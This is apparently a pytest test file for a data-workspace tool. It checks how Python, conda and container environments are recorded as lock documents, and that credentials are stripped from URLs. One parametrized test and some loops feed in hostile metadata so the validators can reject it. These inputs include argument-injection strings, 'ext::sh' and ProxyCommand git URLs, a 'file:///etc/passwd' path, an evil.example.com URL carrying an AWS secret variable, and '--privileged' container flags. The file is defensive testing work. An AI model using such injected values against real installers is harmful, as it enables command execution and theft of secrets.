"""What is recorded of an environment, and what becomes of documents that others wrote."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from packaging.pylock import Pylock

from dataworkspaces.environments.conda import KIND as CONDA
from dataworkspaces.environments.container import KIND as CONTAINER
from dataworkspaces.environments.python import KIND as PYTHON
from dataworkspaces.errors import DwsError, MetadataError, NotFoundError
from dataworkspaces.lineage.environment_kind import Process
from dataworkspaces.lineage.environment_records import record_environment
from dataworkspaces.lineage.recorded_environments import package_changes

if sys.version_info >= (3, 11):
    import tomllib
else:
    import tomli as tomllib

Install = Callable[..., None]


@pytest.fixture
def site(tmp_path: Path) -> Path:
    place = tmp_path / "project" / ".venv" / "lib" / "site-packages"
    place.mkdir(parents=True)
    return place


@pytest.fixture
def install(site: Path) -> Install:
    """What an installer leaves of a distribution."""

    def do(name: str, version: str, url: str | None = None, record: str = "", **origin: object) -> None:
        info = site / f"{name.replace('-', '_')}-{version}.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        (info / "RECORD").write_text(record)
        if url is not None:
            (info / "direct_url.json").write_text(json.dumps({"url": url, **origin}))

    return do


def process(site: Path, root: Path | None = None, **variables: str) -> Process:
    return Process("3.11.7", "CPython", str(site.parent.parent), (str(site.parent), str(site)), variables, root)


def recorded(site: Path, root: Path | None = None) -> dict[str, dict[str, object]]:
    content = PYTHON.record(process(site, root))
    document = tomllib.loads(content.decode())
    Pylock.from_dict(document)
    return {package["name"]: package for package in document["packages"]}


def test_sources_as_the_installer_noted_them(site: Path, install: Install, tmp_path: Path) -> None:
    vcs = {"vcs": "git", "commit_id": "a" * 40, "requested_revision": "main"}
    install("from-git", "1", "https://me:token@example.com/a.git?x=secret", vcs_info=vcs, subdirectory="python")
    install("edited", "2", (tmp_path / "ws/code/lib").as_uri(), dir_info={"editable": True})
    install("archived", "3", "https://example.com/a-3.whl", archive_info={"hashes": {"sha256": "b" * 64}})
    install("unhashed", "4", "https://me:token@example.com/a-4.whl", archive_info={})
    install("by-name", "5")
    found = recorded(site, tmp_path / "ws")
    assert set(found) == {"from-git", "edited", "archived"}
    assert found["from-git"]["vcs"] == {
        "type": "git", "url": "https://example.com/a.git", "requested-revision": "main", "commit-id": "a" * 40,
        "subdirectory": "python",
    }  # fmt: skip
    assert found["edited"]["directory"] == {"path": "../../code/lib", "editable": True}
    content = PYTHON.record(process(site, tmp_path / "ws"))
    assert b"token" not in content
    assert b"secret" not in content
    packages = {package.name: package for package in PYTHON.packages(content)}
    assert packages["unhashed"].source == "https://example.com/a-4.whl"
    assert not packages["unhashed"].hashes
    assert packages["by-name"].source is None
    assert packages["edited"].editable
    assert packages["Python"].version == "3.11.7"


UV_LOCK = """
version = 1
[[package]]
name = "by-name"
version = "5"
source = {{ registry = "https://me:token@pypi.example.com/simple" }}
sdist = {{ url = "https://me:token@example.com/by_name-5.tar.gz", hash = "sha256:{0}", size = 5 }}
wheels = [{{ url = "https://example.com/by_name-5-py3-none-any.whl", hash = "sha256:{1}" }}, {{ path = "../x.whl" }}]
"""


def test_lock_file_beside_the_environment_knows_the_archives(site: Path, install: Install) -> None:
    install("by-name", "5")
    project = site.parent.parent.parent
    (project / "uv.lock").write_text(UV_LOCK.format("c" * 64, "d" * 64))
    found = recorded(site)["by-name"]
    assert found["sdist"] == {"url": "https://example.com/by_name-5.tar.gz", "size": 5, "hashes": {"sha256": "c" * 64}}
    assert found["index"] == "https://pypi.example.com/simple"
    content = PYTHON.record(process(site))
    assert PYTHON.export(content, "requirements").splitlines()[1:] == [
        f"by-name==5 --hash=sha256:{'c' * 64} --hash=sha256:{'d' * 64}"
    ]
    # Of another version it says nothing.
    (project / "uv.lock").write_text(UV_LOCK.format("c" * 64, "d" * 64).replace('"5"', '"6"'))
    assert recorded(site) == {}


def test_the_hash_of_the_files_is_that_of_what_the_wheel_brought(site: Path, install: Install, tmp_path: Path) -> None:
    of_wheel = "a.py,sha256=x,1\na-1.dist-info/METADATA,sha256=y,2\n"
    install("a", "1", record=of_wheel)
    before = PYTHON.record(process(site))
    record = site / "a-1.dist-info" / "RECORD"
    record.write_text(
        "a-1.dist-info/INSTALLER,sha256=z,3\n__pycache__/a.cpython-311.pyc,,\n../../bin/a,sha256=w,4\n" + of_wheel
    )
    assert PYTHON.record(process(site)) == before
    record.write_text(of_wheel.replace("=x", "=other"))
    (change,) = package_changes(PYTHON.packages(before), PYTHON.packages(PYTHON.record(process(site))))
    assert str(change) == "a 1 holds other files"


def test_recorded_once_and_again_when_something_is_installed(
    site: Path, install: Install, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    install("a", "1")
    machine = tmp_path / "machine"
    first = record_environment(process(site), machine)
    assert list(first) == ["python"]
    with monkeypatch.context() as patch:
        patch.setattr(type(PYTHON), "record", lambda *_: pytest.fail("it is known"))
        assert record_environment(process(site), machine) == first
    install("b", "1")
    second = record_environment(process(site), machine)
    assert second != first
    (machine / "environments" / second["python"]).unlink()
    assert record_environment(process(site), machine) == second
    assert (machine / "environments" / second["python"]).is_file()


def test_nothing_of_it_stops_a_step(site: Path, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    assert record_environment(process(site), tmp_path / "file") == {}


GOOD = """
lock-version = "1.0"
created-by = "x"
[[packages]]
name = "a"
{package}
[tool.dataworkspaces]
format = 1
python = {{ version = "{python}", implementation = "CPython" }}
[[tool.dataworkspaces.distributions]]
name = "{name}"
version = "{version}"
"""
DIRECTORY = 'directory = { path = "/nowhere/at/all" }'


def document(package: str = DIRECTORY, python: str = "3.11.7", name: str = "a", version: str = "1") -> bytes:
    return GOOD.format(package=package, python=python, name=name, version=version).encode()


@pytest.mark.parametrize(
    "content",
    [
        b"\xff",
        b"a = [",
        b"[" * 10_000,
        b'lock-version = "9"',
        document(python="3.11; rm"),
        document(python="--help"),
        document(name="--index-url=https://evil.example.com"),
        document(name="a\\nb"),
        document(version="1 --hash=x"),
        document('archive = { url = "file:///etc/passwd", hashes = { sha256 = "00" } }'),
        document('archive = { url = "https://evil.example.com/${AWS_SECRET_ACCESS_KEY}", hashes = { sha256 = "00" } }'),
        document('archive = { url = "https://e.example.com/a b", hashes = { sha256 = "00" } }'),
        document('archive = { url = "https://e.example.com/a", hashes = { sha256 = "00 --pre" } }'),
        document('vcs = { type = "git", url = "ext::sh -c x", commit-id = "a" }'),
        document('vcs = { type = "git", url = "ssh://-oProxyCommand=x/a", commit-id = "a" }'),
        document('vcs = { type = "git", url = "https://e.example.com/a", commit-id = "--upload-pack=x" }'),
        document('vcs = { type = "sh", url = "https://e.example.com/a", commit-id = "a" }'),
        document('directory = { path = "/a", subdirectory = "../../b" }'),
    ],
)
def test_what_others_wrote_is_refused_in_one_line(content: bytes) -> None:
    with pytest.raises(MetadataError) as refusal:
        PYTHON.sources(content)
    assert "\n" not in str(refusal.value)


def test_path_of_another_machine_is_told_before_anything_is_made(tmp_path: Path) -> None:
    with pytest.raises(NotFoundError, match="a came from /nowhere/at/all") as missing:
        PYTHON.create(document(), tmp_path / "new")
    assert "--without a" in str(missing.value.hint)
    assert not (tmp_path / "new").exists()


def test_conda_environment(tmp_path: Path) -> None:
    meta = tmp_path / "conda-meta"
    meta.mkdir()
    (meta / "history").write_text("==> 2026 <==\n")
    url = "https://me:t@conda.example.com/linux-64/zlib-1.3-h1_0.conda"
    (meta / "zlib-1.3-h1_0.json").write_text(json.dumps({"name": "zlib", "url": url, "sha256": "e" * 64}))
    of_it = Process(prefix=str(tmp_path))
    assert CONDA.state(of_it) is not None
    assert CONDA.state(Process(prefix=str(meta))) is None
    content = CONDA.record(of_it)
    assert content.decode() == f"@EXPLICIT\nhttps://conda.example.com/linux-64/zlib-1.3-h1_0.conda#sha256:{'e' * 64}\n"
    (package,) = CONDA.packages(content)
    assert (package.name, package.version, package.hashes) == ("zlib", "1.3", True)
    assert CONDA.sources(content)[0].address == "https://conda.example.com/linux-64"
    for line in (
        b"--file=x",
        b"file:///etc/a-1-0.conda",
        b"https://e.example.com/a-1-0.conda#x",
        b"https://-x/a-1-0.conda",
    ):
        with pytest.raises(MetadataError):
            CONDA.packages(b"@EXPLICIT\n" + line + b"\n")


def test_container_that_somebody_named(tmp_path: Path) -> None:
    image = f"registry.example.com/python@sha256:{'f' * 64}"
    content = CONTAINER.record(Process(variables={"DWS_CONTAINER_IMAGE": image}))
    assert CONTAINER.export(content, "image") == f"{image}\n"
    assert CONTAINER.state(Process(variables={"DWS_CONTAINER_IMAGE": "--privileged"})) is None
    for image in ("--privileged", "a b", "-v/:/x"):
        with pytest.raises(DwsError):
            CONTAINER.sources(json.dumps({"engine": "x", "image": image}).encode())
